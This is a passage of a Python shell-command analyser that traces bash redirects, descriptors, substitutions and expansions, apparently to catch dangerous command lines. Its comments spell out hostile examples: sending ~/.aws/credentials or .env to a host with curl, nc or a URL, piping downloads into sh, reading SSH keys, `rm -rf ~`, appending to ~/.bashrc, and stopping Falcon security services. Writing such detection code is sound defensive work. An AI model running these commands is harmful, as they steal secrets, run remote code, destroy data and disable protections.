                any(not c.is_named and c.start_byte in self.rw_stack[-1] for c in r.children):
            op = "<>"  # `N<>file`, parsed as `<` (see layer()): opened for writing too
        before = len(self.drafts)
        refs_before = len(self.refs)
        vals, _dyn = self.word(dest, via, depth, sd + 1) if dest is not None else ([""], False)
        path = " ".join(vals)
        fd = self.text(fd_node) if fd_node is not None else self.glued_fd(r)
        if fd.startswith("{"):
            # `exec {fd}<.env`: the shell opens a free descriptor and puts its number in $fd
            name, fd = fd[1:-1], self.fds.allocate()
            self.env[name] = fd
            self.var_alias.pop(name, None)
        if op in ("<&", ">&") and path.isdigit():
            # `<&3` after `exec 3<.env` reads .env; `>&3` after `exec 3>>~/.bashrc` writes it
            hit = self.fds.opened(path, target.redirects)
            if hit is not None and (hit[1] in fdlib.READS if op == "<&" else hit[1] in fdlib.WRITES):
                op, path = ("<" if op == "<&" else ">>"), hit[0]
        elif op in fdlib.READS or op in fdlib.WRITES:
            path = self.fds.path_of(path, target.redirects)  # `< /dev/fd/3`, `> /proc/self/fd/3`
        if target.argv == ["exec"] and not target.dynamic:
            # for the rest of the line (`exec > >(tee log)`: a pipe, no file)
            self.fds.record(fd, op, path if dest is None or dest.type != "process_substitution" else "")
        if op in (">", ">>", ">|", "&>", "&>>", "<>") and dest is not None and dest.type != "process_substitution":
            # `echo x > $(which adr-hook)`, `p=$(command -v adr); : > "$p"`: what the commands print
            # names the file a redirect writes, as if handed to a writer (">" downstream of them)
            namers = [d for d in self.drafts[before:] if d.argv and d is not target]
            namers += [d for name in self.refs[refs_before:] for d in self.var_drafts.get(name, ())]
            self.mark(namers[:64], ">")
            listers = [d for d in namers[:64] if d.argv[0] in ("find", "ls") and d.output is None]
            if len(listers) == 1 and (lister := _as_find(listers[0].argv)) is not None:
                # `echo x > $(find ~ -name config.toml)`: the file the lister finds is written
                self.listed_written(lister, _join_via(via, f"> $({listers[0].argv[0]})"), depth)
        if target.argv == ["exec"] and not target.dynamic and op in fdlib.READS:
            key = fd or "0"
            if dest is not None and dest.type == "process_substitution" and op == "<":
                # `exec 3< <(curl …)`: fd 3 is those commands' output for the rest of the line
                self.fd_substs[key] = ([d for d in self.drafts[before:] if d.argv and d is not target][:16], path)
            else:
                self.fd_substs.pop(key, None)
        elif op == "<&" and path.isdigit() and path in self.fd_substs and fd in ("", "0") and target.argv != ["exec"]:
            # `sh <&3` after `exec 3< <(curl …)`: as `sh < <(curl …)`
            self.substituted_stdin(target, *self.fd_substs[path], via, depth)
        elif op in ("<&", ">&") and (m := _COPROC_FD.fullmatch(path)) is not None:
            self.coproc_pipe(target, op, m.group(1) or "0", fd, via, depth)
        if dest is not None and dest.type == "process_substitution" and op in (">", ">>", ">|", "&>", "&>>") \
                and self.text(dest).startswith(">(") and len(self.out_feeds) < 64:
            if fd in ("", "1", "2"):
                self.out_feeds.append((target, self.text(dest), depth))  # `curl … > >(sh)`
            elif fd.isdigit() and target.argv == ["exec"]:
                self.fd_out_procs[fd] = self.text(dest)  # `exec 3> >(sh)`: `>&3` later writes into it
        if op == ">&" and path.isdigit() and path in self.fd_out_procs and fd in ("", "1", "2") \
                and target.argv != ["exec"] and len(self.out_feeds) < 64:
            self.out_feeds.append((target, self.fd_out_procs[path], depth))  # `curl … >&3`
        if dest is not None and op == "<" and fd.isdigit() and fd != "0" and "<<<" in self.text(r) \
                and any(c.type == "ERROR" for c in r.children):
            # `source /dev/fd/3 3<<< TEXT`: tree-sitter-bash reads a here-string on a descriptor as `3< TEXT`
            if target.argv == ["exec"] and len(self.fd_texts) < 16:
                self.fd_texts[fd] = path + "\n"  # (`exec 3<<< TEXT; bash /dev/fd/3`)
                self.fds.record(fd, "<", "")  # (no file of that name is opened)
            elif self.fd_operand(target, fd, "/dev/stdin") and target.stdin_text is None:
                target.stdin_text = path + "\n"
                self.feed(target, target.stdin_text, depth)
                self.pass_stdin(target, text=target.stdin_text)
            return
        if dest is not None and op == "<" and fd.isdigit() and fd != "0" and target.argv != ["exec"] \
                and self.fd_operand(target, fd, "/dev/stdin" if dest.type == "process_substitution" else path):
            fd = ""  # `bash /dev/fd/3 3< <(curl …)`: read as the script on its stdin (or as the file it opens)
            if dest.type != "process_substitution":
                op = "<"
        if dest is not None and dest.type == "process_substitution" and op == "<" and fd in ("", "0"):
            # `sh < <(curl …)`: what those commands print is this program's stdin
            feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
            self.substituted_stdin(target, feeders, path, via, depth)
        self.apply_redirect(target, op, path, fd, dest is not None and dest.type != "process_substitution", via, depth)

    def coproc_pipe(self, target: _Draft, op: str, end: str, fd: str, via: str, depth: int) -> None:
        """`sh <&${COPROC[0]}` reads what a coprocess prints (`coproc curl …`), as `curl … | sh`;
        `echo … >&${COPROC[1]}` writes to its stdin (`coproc bash`), as `echo … | bash`. Which of the
        line's coprocesses a name means is not worked out: each of them may be it."""
        procs = [d for d in self.drafts if d.argv and d is not target and d.argv != ["coproc"]
                 and ("coproc" in d.wrappers or d.via.endswith("coproc -c"))][:16]
        if not procs:
            return
        if op == "<&" and end == "0" and fd in ("", "0"):
            self.substituted_stdin(target, procs, "", via, depth)
        elif op == ">&" and end == "1" and fd in ("", "1"):
            for p in procs:
                p.upstream.extend(a for a in target.argv[:1] if a not in p.upstream)
                if target.argv and p.argv:  # (what it reads goes where the coprocess sends it: as `cat K | nc h`)
                    target.downstream.append(p.argv[0])
                    self.read_from(p, [target])
                if target.output and p.stdin_text is None and p.stdin_seen is None:
                    self.take_seen(p, target.output, depth)
                elif not target.output and _reads_commands(p):
                    self.issue("piped-dynamic", f"a coprocess shell runs what another program writes to it: "
                               f"{target.raw[:80]}", via)

    def substituted_stdin(self, target: _Draft, feeders: "list[_Draft]", path: str, via: str, depth: int) -> None:
        """`target`'s stdin is what `feeders` print (a process substitution, directly or through a
        descriptor an `exec` opened on one)."""
        target.upstream.extend(d.argv[0] for d in feeders)
        self.pass_stdin(target, [d.argv[0] for d in feeders])  # (`bash -c 'terraform destroy' < <(yes)`)
        self.heirs_fed(feeders, target)  # (`bash -c 'nc h 9' < <(cat .env)`)
        if target.argv:
            for d in feeders:  # (and it is what they feed: `nc h 80 < <(cat .env)`)
                d.downstream.append(target.argv[0])
            self.read_from(target, feeders)
            if "xargs" in target.wrappers or "parallel" in target.wrappers:
                self.lookup_operands(target, feeders, via)  # `xargs cp evil < <(which git)`
                self.ls_fed_reader(target, feeders, via)  # `xargs cat < <(ls)`, `xargs -a <(ls) cat`
            if target.argv[0] in _NAMES_FROM_LIST and "-" in _list_files(target.argv[0], target.argv[1:]):
                self.names_listed(target, feeders, via)  # `zip -@ k.zip < <(ls ~/.ssh/id_*)`
        if path in self.procsubs and target.stdin_text is None:
            target.stdin_text = self.procsubs[path]
            self.feed(target, target.stdin_text, depth)
            self.pass_stdin(target, text=target.stdin_text)
        elif _reads_commands(target):
            self.unknown_procsub(target, path, via)

    def apply_redirect(self, target: _Draft, op: str, path: str, fd: str, plain: bool, via: str, depth: int) -> None:
        """Record one redirect of `target` and what follows from it (`plain`: its target is a word, not
        a process substitution)."""
        if op in (">&", "<&") and (path.isdigit() or path == "-"):
            target.redirects.append(Redirect(op, path, fd))
            return
        target.redirects.append(Redirect(op or ">", path, fd))
        if op == "<" and fd in ("", "0"):
            if path and plain:
                self.pass_stdin(target, path=path)
            self.computed_operands(target, "<" + path, via)  # `xargs rm -rf < list.txt`
            printers = self.printed_to.get(_plain_path(path))
            if printers and target.argv and target.argv[0] in _NAMES_FROM_LIST \
                    and "-" in _list_files(target.argv[0], target.argv[1:]):
                self.names_listed(target, printers, via)  # `zip -@ x.zip < /tmp/l`, `cpio -o < /tmp/l`
            if printers and target.argv:
                # `which git > /tmp/p; read p < /tmp/p`, `… ; xargs cp evil < /tmp/p`: what they printed
                self.read_from(target, printers)
                if target.argv[0] not in ("read", "mapfile", "readarray"):
                    target.passes.extend(printers)
                if "xargs" in target.wrappers or "parallel" in target.wrappers:
                    self.lookup_operands(target, printers, via)
                    self.ls_fed_reader(target, printers, via)  # `ls > /tmp/l; xargs cat < /tmp/l`
            known = self.written_content(path) if target.stdin_text is None and target.argv else None
            if known:
                # `echo 'DROP DATABASE prod;' > d.sql; mysql < d.sql`: a file the line wrote is what it says
                target.stdin_text = known
                self.feed(target, known, depth)
            if path == "/dev/null" and target.stdin_text is None and not target.upstream and target.argv \
                    and target.argv[0] in _EMPTY_FROM_NOTHING:
                target.stdin_text = ""  # `tee .env < /dev/null`: it reads nothing, so writes nothing
                self.feed(target, "", depth)
        if target.argv and op in (">", ">>", ">|") and fd in ("", "1") and len(self.printed_to) < 64:
            self.printed_to[_plain_path(path)] = [target]  # `which git > /tmp/p`: read back later on the line
        if target.argv and op in (">", ">>", ">|") and fd in ("", "1") and target.output is None:
            lister = _as_find(target.argv)
            if lister is not None:
                self.listed[_plain_path(path)] = lister
        if target.argv and target.argv[0] in DOWNLOADERS and op in (">", ">>", ">|", "&>") and fd in ("", "1"):
            self.downloaded[_plain_path(path)] = target.argv[0]
            url = next((a for a in target.argv[1:] if "://" in a), None)
            if url:
                self.download_urls[_plain_path(path)] = url
        if op in (">&", "<&") and (path.isdigit() or path == "-"):
            return  # 2>&1, 0>&1, >&- : file-descriptor duplication, not a file
        if op in (">", ">>", ">|", "&>", "&>>", ">&", "<>") and not path.startswith("&") \
                and path not in ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"):
            # any descriptor opened for writing writes the file: `2>>~/.bashrc` (an error message can
            # carry a line of shell), `exec 3>>~/.bashrc` (whatever `>&3` sends later); only stdout's
            # content is known
            content = target.output if fd in ("", "1") and op != "<>" else None
            if content is None and op in (">", ">|", "&>") and fd in ("", "1") and _reads_own_output(target, path):
                content = ""  # `grep -v X .env > .env`: the shell empties .env before grep reads it
            self.writes.append(FileWrite(path, content, append=op.endswith(">>"), by=target.argv[0] if target.argv else "",
                                         via=via))

    # ---- words --------------------------------------------------------------------------
    def word(self, node: ts.Node, via: str, depth: int, sd: int, quoted: bool = False) -> tuple[list[str], bool]:
        """Resolve one word node → (fields, dynamic). Unquoted expansions are field-split."""
        if not quoted and node.type in ("word", "concatenation"):
            braced = _BRACE_LIST.fullmatch(self.text(node))
            if braced:
                # `{curl,http://x}` → curl http://x (brace expansion of a plain comma list)
                pre, body, post = braced.groups()
                return [pre + alt + post for alt in body.split(",")], False
        s, dyn = self._word_str(node, via, depth, sd, quoted)
        if _UNQUOTED_SPLIT in s:
            fields = [f for f in s.split(_UNQUOTED_SPLIT) if f != ""]
            return fields or [""], dyn
        return [s], dyn

    def _word_str(self, node: ts.Node, via: str, depth: int, sd: int, quoted: bool) -> tuple[str, bool]:
        if not self.budget(sd, via):
            return "", True
        t = node.type
        if t in ("word", "number", "variable_name", "file_descriptor", "test_operator", "special_variable_name"):
            txt = self.text(node)
            if not quoted and t == "word" and txt[:2] == "~+" and txt[2:3] in ("", "/") and "PWD" not in self.env \
                    and (node.parent is None or node.parent.type != "concatenation" or node.prev_sibling is None):
                return "." + unescape_word(txt[2:]), False  # the shell's ~+ is $PWD (see $PWD in expand)
            return (unescape_double_quoted(txt) if quoted else unescape_word(txt)), False
        if t == "raw_string":
            return self.text(node)[1:-1], False
        if t == "ansi_c_string":
            return decode_ansi_c(self.text(node)[2:-1]), False
        if t == "string_content":
            return unescape_double_quoted(self.text(node)), False
        if t in ("string", "translated_string"):
            if "@" in self.env and self.text(node) in ('"$@"', '"${@}"'):
                # "$@": each positional parameter is a word of its own (sh -c '"$@"' _ rm -rf x)
                return _UNQUOTED_SPLIT.join(self.env["@"].split()), False
            whole = _ARRAY_REF.fullmatch(self.text(node)[1:-1]) if self.arrays else None
            if whole is not None and whole.group(2) == "@" and whole.group(1) in self.arrays:
                # "${a[@]}": each element a word of its own (`x=(-rf ~); rm "${x[@]}"`)
                return _UNQUOTED_SPLIT.join(self.arrays[whole.group(1)]) or "", False
            parts, dyn = [], False
            children = node.named_children
            if not children:  # "" or only blanks ("  " has no string_content node)
                inner = self.text(node)[(2 if t == "translated_string" else 1):-1]
                return unescape_double_quoted(inner), False
            # string_content nodes skip the text between them when it is only whitespace; use byte ranges
            pos = node.start_byte + (2 if t == "translated_string" else 1)
            src = self.src_stack[-1]
            for c in children:
                if c.start_byte > pos:
                    parts.append(unescape_double_quoted(src[pos:c.start_byte].decode("utf-8", "replace")))
                v, d = self._word_str(c, via, depth, sd + 1, True)
                parts.append(v.replace(_UNQUOTED_SPLIT, " "))
                dyn = dyn or d
                pos = c.end_byte
            end = node.end_byte - 1
            if end > pos:
                parts.append(unescape_double_quoted(src[pos:end].decode("utf-8", "replace")))
            return "".join(parts), dyn
        if t == "concatenation":
            parts, dyn = [], False
            for c in node.children:
                v, d = self._word_str(c, via, depth, sd + 1, quoted)
                parts.append(v)
                dyn = dyn or d
            return "".join(parts), dyn
        if t in ("simple_expansion", "expansion"):
            return self.expansion(node, via, depth, sd, quoted)
        if t in ("command_substitution",):
            inner = self.substitution(node, via, depth, sd, "$(…)")
            if inner is None:
                return self.text(node), True
            return (inner if quoted else self.field_split(inner)), False
        if t == "process_substitution":
            self.procsub_template = None
            before = len(self.drafts)
            out = self.substitution(node, via, depth, sd, "<(…)")
            if len(self.procsub_drafts) < 16:
                self.procsub_drafts[self.text(node)] = [d for d in self.drafts[before:] if d.argv][:16]
            out = out if out is not None else self.procsub_template
            if out is not None and len(self.procsubs) < 16:
                self.procsubs[self.text(node)] = out  # `bash <(echo …)`, `sh < <(printf …)`: the file's text
            return self.text(node), True
        if t == "arithmetic_expansion":
            # $(( 1 + $(cmd) )): the command substitution runs when the expression is evaluated
            self.substitutions_in(node, via, depth, sd + 1)
            return self.text(node), False
        if t == "array":
            vals = []
            known = True
            for c in node.named_children:
                v, d = self._word_str(c, via, depth, sd + 1, quoted)
                vals.append(v)
                known = known and not d and c.type in ("word", "raw_string", "string", "number", "concatenation")
            self.last_array = vals[:64] if known else None
            return " ".join(vals), False
        if t == "brace_expression":
            return self.text(node), False
        if not node.is_named:
            txt = self.text(node)
            return (unescape_word(txt) if not quoted else txt), False
        return self.text(node), False

    def expansion(self, node: ts.Node, via: str, depth: int, sd: int, quoted: bool) -> tuple[str, bool]:
        txt = self.text(node)
        if self.empty_unknown and not any(c.type in ("command_substitution", "process_substitution")
                                          for c in node.named_children):
            nm = next((self.text(c) for c in node.named_children
                       if c.type in ("variable_name", "special_variable_name")), None)
            if nm is not None and nm not in self.env and nm not in ("HOME", "IFS") and \
                    re.fullmatch(r"\$\{?" + re.escape(nm) + r"\}?", txt):
                return "", False
        name = ""
        for c in node.named_children:
            if c.type in ("variable_name", "special_variable_name"):
                name = self.text(c)
                break
        ref = name
        if not ref:
            # `${a[0]}`, `${a[@]}`: an element of array a (`a=($(command -v git))` holds that output)
            sub = next((c for c in node.named_children if c.type == "subscript"), None)
            arr = sub.child_by_field_name("name") if sub is not None else None
            ref = self.text(arr) if arr is not None else ""
        if ref and len(self.refs) < 256:
            self.refs.append(ref)
        m = _ARRAY_REF.fullmatch(txt) if ref in self.arrays else None
        if m is not None:
            # `x=(-rf ~); rm "${x[@]}"`: the elements, each a word of its own (quoted or not)
            els = self.arrays[ref]
            if m.group(2) in ("@", "*"):
                if quoted and m.group(2) == "*":
                    # "${a[*]}" joins by the first character of IFS (none when IFS is empty: `IFS=;
                    # "${a[*]}"` with a=(r m) is `rm`)
                    return (self.env["IFS"][:1] if "IFS" in self.env else " ").join(els), False
                return _UNQUOTED_SPLIT.join(e if quoted else self.field_split(e) for e in els), False
            k = int(m.group(2))
            v = els[k] if k < len(els) else ""
            return (v if quoted else self.field_split(v)), False
        simple = txt in (f"${name}", "${" + name + "}")
        if name == "IFS" and simple:
            return (self.env.get("IFS", " ")[:1] if quoted else _UNQUOTED_SPLIT), False
        if name == "HOME" and simple:
            return "~", False
        if name in ("0", "SHELL", "BASH") and simple and name not in self.env:
            # the shell running the line (`bash -c LINE`: $0), the user's or bash's own path: a shell —
            # `$0 -c '…'`, `exec $0 <<EOF`, `echo … | $SHELL` run what they are given as shell text
            return "sh", False
        if name == "*" and simple and quoted and "IFS" in self.env and _ARGV_KEY in self.env:
            # "$*" joins the positional parameters by IFS's first character (none when IFS is empty)
            return self.env["IFS"][:1].join(self.env[_ARGV_KEY].split("\0")), False
        if name == "PWD" and simple and "PWD" not in self.env:
            return ".", False  # the working directory (a `cd` earlier on the line moves it)
        if simple and name in self.env:
            v = self.env[name]
            return (v if quoted else self.field_split(v)), False
        if simple and name in self.var_alias:
            if self.var_alias[name] == "$HOME":
                return "~", False
            return self.var_alias[name], True
        if txt.startswith("${!") and txt.endswith("}") and _NAME.fullmatch(txt[3:-1] or "-") \
                and _NAME.fullmatch(self.env.get(txt[3:-1], "") or "-"):
            # ${!v} with v=HOME: the variable v names
            ref = self.env[txt[3:-1]]
            if ref == "HOME":
                return "~", False
            if ref in self.env:
                v = self.env[ref]
                return (v if quoted else self.field_split(v)), False
            return "$" + ref, True
        # ${x:-default}, ${x//a/b} …: commands inside still run; the operator is applied to what is known
        subst = False
        for c in node.named_children:
            if c.type in ("command_substitution", "process_substitution"):
                self.substitution(c, via, depth, sd, "$(…)")
                subst = True
            elif c.type == "subscript":
                before = len(self.drafts)
                self.substitutions_in(c, via, depth, sd + 1)  # `${x[$(cmd)]}`: the index is evaluated
                subst = subst or len(self.drafts) > before
        if ("`" in txt or "$(" in txt) and not subst:
            # tree-sitter keeps `${x:-`cmd`}`'s default a plain word: bash still runs the backticks
            for m in _EMBEDDED_SUBST.finditer(txt[2:-1]):
                self.nested_shell(m.group(1) if m.group(1) is not None else m.group(2), via, depth,
                                  "substitution in ${…}")
                subst = True
        if txt.endswith("@P}") and name in self.env and ("$(" in self.env[name] or "`" in self.env[name]):
            # ${x@P} expands x's value as a prompt: its command substitutions run
            for m in _EMBEDDED_SUBST.finditer(self.env[name]):
                self.nested_shell(m.group(1) if m.group(1) is not None else m.group(2), via, depth, "${x@P}")
            subst = True
        self.param_ops += 1
        # (each operator costs up to a few ms on a long value: a line with very many is left dynamic)
        got = None if subst or self.param_ops > MAX_PARAM_OPS else expand_param(txt, self._known_var)
        if got is None:
            return txt, True
        value, dyn = got
        for _ in range(4):
            # `${X:-${Y:-rm}}`: a default that is itself an expansion, expanded in turn
            if not (dyn and self.empty_unknown and value.startswith("${") and value.endswith("}")):
                break
            self.param_ops += 1
            again = expand_param(value, self._known_var) if self.param_ops <= MAX_PARAM_OPS else None
            if again is None:
                break
            value, dyn = again[0], True
        if dyn and self.empty_unknown and value and "${" not in value:
            # `${x:-rm} -rf ~`, `${x:+curl}`: the variable is not set on the line, so the word the line
            # supplies is what a fresh shell runs (the dynamic-command issue is still reported)
            return (value if quoted else self.field_split(value)), False
        if value == HOME_MARK or dyn:
            return value, dyn
        return (value if quoted else self.field_split(value)), False

    def _known_var(self, name: str) -> "str | None":
        if name == "HOME":
            return HOME_MARK
        return self.env.get(name)

    def field_split(self, value: str) -> str:
        """Mark where an unquoted expansion splits into fields (by $IFS, default blank/tab/newline)."""
        for ch in self.env.get("IFS", " \t\n") or "":
            value = value.replace(ch, _UNQUOTED_SPLIT)
        return value

    def substitutions_in(self, node: ts.Node, via: str, depth: int, sd: int) -> None:
        if not self.budget(sd, via):
            return
        if node.type in ("command_substitution", "process_substitution"):
            self.substitution(node, via, depth, sd, "$(…)")
            return
        for c in node.named_children:
            self.substitutions_in(c, via, depth, sd + 1)

    def substitution(self, node: ts.Node, via: str, depth: int, sd: int, label: str) -> str | None:
        """Walk the commands inside $(…)/`…`/<(…); return the literal output when it is knowable."""
        lvia = _join_via(via, label)
        stages: list[list[_Draft]] = []
        inner_nodes = [c for c in node.named_children if c.type != "comment"]
        reads = _bare_input(node, self.text)
        if reads is not None:
            # `$(< ~/.ssh/id_rsa)`: the file's content, as `$(cat ~/.ssh/id_rsa)` would print it
            vals, _dyn = self.word(reads, lvia, depth, sd + 1)
            self.finish(["cat", " ".join(vals)], self.text(node), lvia, depth + 1, False, ())
            return None
        saved_env = dict(self.env)
        self.stdout_piped += 1
        try:
            if len(inner_nodes) == 1 and inner_nodes[0].type == "pipeline" and not _pipeline_parts(inner_nodes[0])[1]:
                drafts = self.pipeline(_pipeline_parts(inner_nodes[0])[0], lvia, depth + 1, sd + 1)
                stages = [drafts[-1:]] if drafts else []
            else:
                drafts = []
                for c in inner_nodes:
                    got = self.stmt(c, lvia, depth + 1, sd + 1)
                    drafts.extend(got)
                    stages.append(got)
        finally:
            self.stdout_piped -= 1
        self.env = saved_env
        if len(drafts) >= 1 and stages and len(stages[-1]) == 1 and stages[-1][0].output is not None:
            return stages[-1][0].output.rstrip("\n")
        if label == "<(…)" and stages and len(stages[-1]) == 1 and stages[-1][0].template is not None:
            # `source <(sed 's/^/export /' vars.txt)`: a file whose lines are known up to their input
            self.procsub_template = generate.fill_input(stages[-1][0].template, "cat").rstrip("\n")
        return None

    # ---- simple commands ----------------------------------------------------------------
    def command(self, node: ts.Node, via: str, depth: int, sd: int) -> list[_Draft]:
        argv: list[str] = []
        name_vals: list[str] = []
        dynamic_name = False
        dyn_args = False
        name_upstream: list[str] = []
        local_env: dict[str, str] = {}
        name_node = node.child_by_field_name("name")
        feeders: list[_Draft] = []  # commands whose output becomes this command's arguments or environment
        read_procs: list[_Draft] = []  # the commands of `<(…)` operands (a file this command may print on)
        namers: list[tuple[list[str], list[_Draft]]] = []  # computed words → the commands computing them
        refs_before = len(self.refs)
        writes_before = len(self.writes)
        deletes_before = len(self.deletes)
        for c in node.children:
            if not c.is_named:
                if c.type in ("==", "=~"):
                    argv.append(c.type)  # tree-sitter-bash reads a bare `==` as an operator; bash, as a word
                continue
            if c.type == "variable_assignment":
                n = c.child_by_field_name("name")
                v = c.child_by_field_name("value")
                if n is not None:
                    before = len(self.drafts)
                    vals, dyn = self.word(v, via, depth, sd + 1) if v is not None else ([""], False)
                    local_env[self.text(n)] = " ".join(vals)
                    feeders += self.drafts[before:]
                continue
            if c.type in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
                continue
            if c.type == "command_name":
                before = len(self.drafts)
                for cc in c.named_children:
                    vals, dyn = self.word(cc, via, depth, sd + 1)
                    name_vals.extend(vals)
                    dynamic_name = dynamic_name or dyn
                # a program name computed by commands: their output is what runs
                name_upstream = [d.argv[0] for d in self.drafts[before:] if d.argv]
                looked_up = _PATH_LOOKUP_NAME.fullmatch(self.text(c)) if dynamic_name else None
                if looked_up:
                    # `$(which python3) -m pip …`, `"$(command -v node)" x.js`: the program PATH finds
                    # for that name is what runs — as the bare name would (hash -p still applies)
                    name_vals, dynamic_name = [looked_up.group(1)], False
                continue
            if c.type in ("comment",):
                continue
            if (c.type == "number" or c.type in ("word", "concatenation")
                    and self.src_stack[-1][c.start_byte:c.start_byte + 1] == b"{") \
                    and _glued_redirect(c) is not None and fdlib.glued_descriptor(self.text(c)):
                continue  # `exec 0<&3`: the descriptor of the redirect that follows (file_redirect)
            before = len(self.drafts)
            refs_at = len(self.refs)
            vals, dyn = self.word(c, via, depth, sd + 1)
            if len(self.drafts) > before:
                # `bash <(curl …)`, `curl -d "$(cat ~/.aws/credentials)"`: what those commands print
                # is this program's input
                fed = [d for d in self.drafts[before:] if d.argv and d.depth == depth + 1
                       or d.argv and c.type == "process_substitution"]
                name_upstream.extend(d.argv[0] for d in fed)
                feeders += fed
                if c.type == "process_substitution":
                    read_procs += fed
            if dyn and len(namers) < 16:
                # a word computed by commands (`$(which node)`, `"$p"` holding one): if the program writes
                # the file it names, those commands name a written file (see mark_namers)
                made = [d for d in self.drafts[before:] if d.argv]
                made += [d for name in self.refs[refs_at:] for d in self.var_drafts.get(name, ())]
                if made:
                    namers.append((vals, made[:16]))
            dyn_args = dyn_args or dyn
            argv.extend(vals)
        if name_vals == ["set"] and "--" in argv:
            # `set -- $(which git); cp evil "$1"`: the positional parameters hold what those commands
            # printed, as a variable assigned from them does (the lookup's downstream marks follow)
            made = [d for _, ds in namers for d in ds]
            for k in [str(n) for n in range(1, 10)] + ["@", "*"]:
                if made:
                    self.var_drafts[k] = made[:16]
                else:
                    self.var_drafts.pop(k, None)
        raw = self.text(node)
        empty_name = first_unset = False  # the name, or the word after a name that printed nothing, is unset
        if dynamic_name and name_node is not None:
            # `c${u}rl`: an unset variable is empty in a fresh shell — if reading unknown variables as
            # empty yields a plain program name, judge that program (the issue is still reported)
            self.empty_unknown = True
            try:
                alt, alt_dyn = [], False
                for cc in name_node.named_children:
                    v, d2 = self.word(cc, via, depth, sd + 1)
                    alt.extend(v)
                    alt_dyn = alt_dyn or d2
            finally:
                self.empty_unknown = False
            guess = alt[0] if alt else ""
            if guess and re.fullmatch(r"[\w./+-]+", guess) and not alt_dyn:
                # `${EDITOR:-vim} f`: the whole name is one variable with a plain default — the
                # user's own choice or the default, which is judged (no name pieced together); a default of
                # several words is a program and its first arguments (`${x:-rm -rf ~}`: field split)
                if len(alt) > 1 or not _DEFAULT_NAME.fullmatch(self.text(name_node)):
                    self.issue("dynamic-command", f"program name depends on unset variables: {raw_name(self, name_node)}",
                               via)
                name_vals, dynamic_name = list(alt[:256]), False
            else:
                # keep the computed name as written; it names no program we can look up
                name_vals = [self.text(name_node)]
                if not any(alt) and not alt_dyn and argv:
                    empty_name = _unset_name(self.text(name_node), self)
                    # `$(true) $x rm -rf ~`: the name prints nothing, then x is unset
                    first_unset = not empty_name and _unset_name(argv[0], self)
        first_unset = first_unset or not empty_name and bool(argv) and not any(name_vals) and _unset_name(argv[0], self)
        drop = name_node if empty_name else next(
            (c for c in node.named_children if c is not name_node and self.text(c) == argv[0]), None) if first_unset else None
        argv = name_vals + argv
        if self.fds.table:
            # `exec 3<.env; curl -d @/dev/fd/3 …`: the descriptor's path names the file open on it
            argv = [self.fds.path_of(a) for a in argv]
        # `k=$(cat ~/.aws/credentials); curl -d "$k" …`: a variable carries the commands it came from
        for name in self.refs[refs_before:]:
            for d in self.var_drafts.get(name, ()):
                if d not in feeders:
                    feeders.append(d)
                    name_upstream.append(d.argv[0])
        del self.refs[refs_before:]
        self.prefix_env = local_env
        try:
            draft = self.finish(argv, raw, via, depth, dynamic_name, upstream=tuple(name_upstream),
                                args_dynamic=dyn_args)
        finally:
            self.prefix_env = {}
        src = self.src_stack[-1]
        if drop is not None and len(self.layers) < 64:
            # `$x rm -rf ~`, `$x curl … | sh` with x unset: the name is no word at all and the next word is
            # the program — its statement (the whole pipeline) judged again without it
            top = node
            while top.parent is not None and top.parent.type in ("pipeline", "redirected_statement", "negated_command"):
                top = top.parent
            if top.end_byte - top.start_byte <= _MAX_RESPLIT:
                self.nested_shell((src[top.start_byte:drop.start_byte] + src[drop.end_byte:top.end_byte]).decode(
                    "utf-8", "replace"), via, depth, "as run when the name before the program is empty")
        if draft and (self.fd_substs or self.fd_texts):
            self.exec_fd_operands(draft[0], via, depth)
        if draft:
            prog = draft[0].argv[0]
            heirs = [m.argv[0] for m in draft[0].word_heirs if m.argv]
            for f in feeders:
                f.downstream.append(prog)
                f.downstream.extend(h for h in heirs if h not in f.downstream)
            disabled = _disabled_operands(draft[0].argv)
            if namers and prog in _URL_CONTACTORS:
                # `git ls-remote "https://h/$(base64 .env)"`, `docker pull "h/$(…):1"`, `pip download
                # https://h/$(…)`: what those commands print travels to a host inside the URL
                for vals, made in namers:
                    if any(_COMPUTED_IN_URL.search(v[:4096]) for v in vals):
                        self.mark(made, SENT_IN_URL)
            if namers and (len(self.writes) > writes_before or len(self.deletes) > deletes_before or disabled):
                self.mark_namers(namers, self.writes[writes_before:], self.deletes[deletes_before:], disabled)
            if prog in _OPERAND_PRINTERS and feeders:
                # `readlink -f $(which git)`, `realpath "$p"`: it prints (a form of) what they printed
                draft[0].passes.extend(f for f in feeders if f is not draft[0])
            elif read_procs and (prog in _PASS_FILTERS or prog in _FILE_ENCODERS):
                # `cat <(base64 .env)`, `gzip -c <(env)`: it prints (a form of) what the `<(…)` printed
                draft[0].passes.extend(f for f in read_procs[:16] if f is not draft[0])
            listers = [f for f in feeders if f.argv]
            units = _listed_units(listers) if prog == "systemctl" and dyn_args and listers else None
            if units:
                # `systemctl stop $(systemctl list-units | grep -i falcon | awk '{print $1}')`, a loop
                # over that listing: the units it hands on, as unit globs
                argv2 = [a for a in draft[0].argv if "$" not in a and "`" not in a] + units
                draft[0].runs_as.extend(self.finish(argv2, " ".join(argv2), _join_via(via, "$(systemctl list-units)"),
                                                    depth + 1, False, upstream=("systemctl",))[:8])
            if len(listers) == 1 and listers[0].argv[0] == "ls" and listers[0].output is None and dyn_args \
                    and prog.rsplit("/", 1)[-1] in _XARGS_READERS and not draft[0].wrappers:
                # `files=$(ls); cat $files`, `cat $(ls)`: the entries ls prints are the reader's operands,
                # judged as `ls | xargs cat` is (`cat ./*` in the working directory)
                ops = _ls_read_operands(listers[0])
                if ops:
                    argv2 = [draft[0].argv[0]] + [a for a in draft[0].argv[1:] if a.startswith("-")] + ops
                    made2 = self.finish(argv2, " ".join(argv2), _join_via(via, "$(ls)"), depth + 1, False,
                                        upstream=("ls",))
                    draft[0].runs_as.extend(made2[:8])
            if len(listers) == 1 and listers[0].argv[0] in ("find", "ls") and listers[0].output is None and dyn_args \
                    and prog not in effects.DELETERS and (_changes_its_operands(prog.rsplit("/", 1)[-1], draft[0].argv[1:])
                                                          or prog.rsplit("/", 1)[-1] in _OPERAND_WRITERS):
                # `sed -i … $(find ~/.config -name config.yaml)`, `chmod 000 $(ls -d ~/.c*)`: what the lister
                # prints is changed, as by `find … | xargs sed -i …`
                paths = (_printed_paths(listers[0]) or [])[:4]
                if paths:
                    argv2 = [a for a in draft[0].argv if "$" not in a and "`" not in a] + paths
